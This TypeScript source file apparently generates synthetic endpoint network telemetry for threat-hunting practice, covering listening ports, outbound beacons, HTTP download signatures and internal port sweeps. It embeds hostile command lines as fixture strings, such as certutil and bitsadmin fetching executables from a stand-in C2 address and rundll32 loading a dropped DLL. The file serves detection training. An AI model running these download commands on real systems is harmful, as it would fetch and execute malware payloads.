import { fileHashes } from '../files.js';
import type { Machine } from '../model.js';
import { SYSTEM_ACCOUNT } from './actors.js';
import { initiatingVariant as by, type Profile, type Variant } from './background-generic.js';
import type { BackgroundContext } from './context.js';
import type { RowSource } from './table.js';

/**
 * Network activity public hunts look for that the routine traffic lacks: services listening on the
 * ports hunts list, SMB to the internet, living-off-the-land binaries fetching from an address in
 * their command line, MSBuild and RegAsm calling out, a screensaver beaconing, torrent use, and the
 * HTTP signature MDE records for a download (`GET /payload.exe HTTP/1.1`, which hunts split on " /").
 * The C2 (198.51.100.23, malicious-updates.com) and lateral target (10.0.0.12) are the stories' own.
 */
const C2 = '198.51.100.23';

const SYS = 'C:\\Windows\\System32';

/** A service accepting connections on a port: `ListeningConnectionCreated`, as on a server or a dev box. */
function listening(port: number, folder: string, file: string, commandLine: string): Variant {
  return {
    ActionType: 'ListeningConnectionCreated',
    LocalIP: '0.0.0.0',
    LocalPort: port,
    RemoteIP: '0.0.0.0',
    RemotePort: 0,
    RemoteUrl: '',
    RemoteIPType: 'Reserved',
    LocalIPType: 'Reserved',
    Protocol: 'Tcp',
    ...by(folder, file, commandLine, 'services.exe'),
  };
}

function outbound(ip: string, port: number, url: string, proc: Variant, extra: Variant = {}): Variant {
  return {
    ActionType: 'ConnectionSuccess',
    RemoteIP: ip,
    RemotePort: port,
    RemoteUrl: url,
    RemoteIPType: ip.startsWith('10.') ? 'Private' : 'Public',
    LocalIPType: 'Private',
    Protocol: 'Tcp',
    ...proc,
    ...extra,
  };
}

function httpSignature(path: string, host: string, proc: Variant): Variant {
  return {
    ActionType: 'NetworkSignatureInspected',
    RemoteIP: C2,
    RemotePort: 80,
    RemoteUrl: '',
    RemoteIPType: 'Public',
    Protocol: 'Tcp',
    AdditionalFields: {
      SignatureName: 'HTTP_Client',
      SignatureMatchedContent: `GET ${path} HTTP/1.1`,
      SamplePacketContent: `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: Microsoft-CryptoAPI/10.0`,
    },
    ...proc,
  };
}

const certutil = by(
  SYS,
  'certutil.exe',
  `certutil.exe -urlcache -split -f http://${C2}/payload.exe C:\\Users\\Public\\p.exe`,
  'cmd.exe',
);

export const HN_NETWORK: Profile = [
  listening(
    1433,
    'C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn',
    'sqlservr.exe',
    '"sqlservr.exe" -sMSSQLSERVER',
  ),
  listening(
    3306,
    'C:\\Program Files\\MySQL\\MySQL Server 8.0\\bin',
    'mysqld.exe',
    '"mysqld.exe" --defaults-file="C:\\ProgramData\\MySQL\\my.ini" MySQL80',
  ),
  listening(22, `${SYS}\\OpenSSH`, 'sshd.exe', 'C:\\Windows\\System32\\OpenSSH\\sshd.exe'),
  listening(80, SYS, 'ntoskrnl.exe', ''),
  listening(443, SYS, 'ntoskrnl.exe', ''),
  listening(
    8080,
    'C:\\Program Files\\Java\\jre1.8.0_391\\bin',
    'java.exe',
    '"java.exe" -jar C:\\Apps\\jenkins\\jenkins.war --httpPort=8080',
  ),
  listening(3389, SYS, 'svchost.exe', 'svchost.exe -k NetworkService -s TermService'),
  // SMB leaving the network: the System process, as MDE attributes kernel SMB traffic.
  outbound('203.0.113.66', 445, '', by(SYS, 'ntoskrnl.exe', '', '')),
  // A LOLBin fetching from the address in its own command line.
  outbound(C2, 80, '', certutil),
  outbound(
    C2,
    443,
    '',
    by(
      SYS,
      'bitsadmin.exe',
      `bitsadmin.exe /transfer job /download /priority high http://${C2}/b.exe C:\\Temp\\b.exe`,
      'cmd.exe',
    ),
  ),
  // MSBuild with no project on its command line: code compiled from memory calling home.
  outbound(
    C2,
    443,
    'malicious-updates.com',
    by('C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319', 'MSBuild.exe', 'MSBuild.exe', 'powershell.exe'),
  ),
  // Snip3-style loaders: RegAsm hollowed from PowerShell, beaconing.
  outbound(
    C2,
    443,
    'malicious-updates.com',
    by('C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319', 'RegAsm.exe', '"RegAsm.exe"', 'powershell.exe'),
  ),
  // A screensaver from a phishing archive, beaconing.
  outbound(
    C2,
    443,
    'malicious-updates.com',
    by('C:\\Users\\Public\\Downloads', 'invoice.scr', '"C:\\Users\\Public\\Downloads\\invoice.scr" /S'),
  ),
  // Bazacall's DLL, run by rundll32 with its export.
  outbound(
    C2,
    443,
    'malicious-updates.com',
    by(SYS, 'rundll32.exe', 'rundll32.exe C:\\Users\\Public\\tmp.dll,GlobalOut', 'excel.exe'),
  ),
  // Peer-to-peer use against policy.
  outbound(
    '203.0.113.81',
    6969,
    'torrent.ubuntu.com',
    by(
      'C:\\Program Files\\qBittorrent',
      'qbittorrent.exe',
      '"C:\\Program Files\\qBittorrent\\qbittorrent.exe"',
    ),
  ),
  httpSignature('/payload.exe', C2, certutil),
  httpSignature(
    '/invoice.iso',
    C2,
    by(
      'C:\\Program Files (x86)\\Microsoft\\Edge\\Application',
      'msedge.exe',
      '"msedge.exe" --single-argument http://198.51.100.23/invoice.iso',
    ),
  ),
];

/** Ports a discovery sweep tries on every address: SMB, RPC, RDP, WinRM, SQL Server and MySQL. */
const SWEEP_PORTS = [445, 135, 3389, 5985, 1433, 3306];
const SWEEP_HOSTS = 16;

/**
 * A network sweep by one process on a compromised workstation (Advanced IP Scanner, as ransomware
 * crews run it before moving laterally): every port above on SWEEP_HOSTS addresses of the internal
 * range, within ten minutes. Sweeps repeat every `periodHours` through the data's last day and the
 * anchor's day, and a few times earlier in the month.
 */
export function networkSweeps(context: BackgroundContext, periodHours = 6): RowSource {
  const hour = 3_600_000;
  const recent = Math.ceil((24 + 24) / periodHours);
  const starts = [
    ...Array.from(
      { length: recent },
      (_, k) => context.anchor - 24 * hour + k * periodHours * hour + 17 * 60_000,
    ),
    context.anchor - 3 * 24 * hour - 5 * hour,
    context.anchor - 9 * 24 * hour - 3 * hour,
    context.anchor - 20 * 24 * hour - 7 * hour,
  ];
  const perSweep = SWEEP_HOSTS * SWEEP_PORTS.length;
  const tool = 'advanced_ip_scanner.exe';
  const folder = 'C:\\Users\\Public\\Downloads\\Advanced IP Scanner';
  const hashes = fileHashes(context.seed, tool);
  return {
    count: starts.length * perSweep,
    row(i, into) {
      const sweep = Math.floor(i / perSweep);
      const within = i % perSweep;
      const host = Math.floor(within / SWEEP_PORTS.length);
      const port = SWEEP_PORTS[within % SWEEP_PORTS.length] as number;
      const machine = context.machines[(sweep * 5 + 1) % context.machines.length] as Machine;
      const start = starts[sweep] as number;
      const user = context.usersOf(machine)[0];
      into.Timestamp = start + within * 2_000;
      into.DeviceId = machine.id;
      into.DeviceName = machine.computerDnsName;
      into.ActionType = host % 3 === 0 ? 'ConnectionSuccess' : 'ConnectionFailed';
      into.RemoteIP = `10.0.${(sweep % 3) + 1}.${host + 10}`;
      into.RemotePort = port;
      into.RemoteUrl = '';
      into.RemoteIPType = 'Private';
      into.LocalIP = machine.lastIpAddress;
      into.LocalIPType = 'Private';
      into.LocalPort = 49152 + ((i * 7) % 16000);
      into.Protocol = 'Tcp';
      into.InitiatingProcessFileName = tool;
      into.InitiatingProcessFolderPath = `${folder}\\${tool}`;
      into.InitiatingProcessCommandLine = `"${folder}\\${tool}" /portable "C:\\Users\\Public\\Downloads\\Advanced IP Scanner"`;
      into.InitiatingProcessVersionInfoOriginalFileName = tool;
      into.InitiatingProcessVersionInfoCompanyName = 'Famatech Corp.';
      into.InitiatingProcessSHA1 = hashes.sha1;
      into.InitiatingProcessSHA256 = hashes.sha256;
      into.InitiatingProcessMD5 = hashes.md5;
      into.InitiatingProcessId = 7_000 + sweep;
      into.InitiatingProcessCreationTime = start - 90_000;
      into.InitiatingProcessParentFileName = 'explorer.exe';
      into.InitiatingProcessParentId = 4_100 + sweep;
      into.InitiatingProcessAccountDomain = user
        ? context.tenant.netbiosDomain.toLowerCase()
        : SYSTEM_ACCOUNT.domain;
      into.InitiatingProcessAccountName = user ? user.onPremisesSamAccountName : SYSTEM_ACCOUNT.name;
      into.InitiatingProcessAccountSid = user ? user.onPremisesSecurityIdentifier : SYSTEM_ACCOUNT.sid;
      into.InitiatingProcessAccountUpn = user ? user.userPrincipalName : '';
      into.InitiatingProcessIntegrityLevel = 'High';
      into.ReportId = 950_000 + i;
    },
  };
}
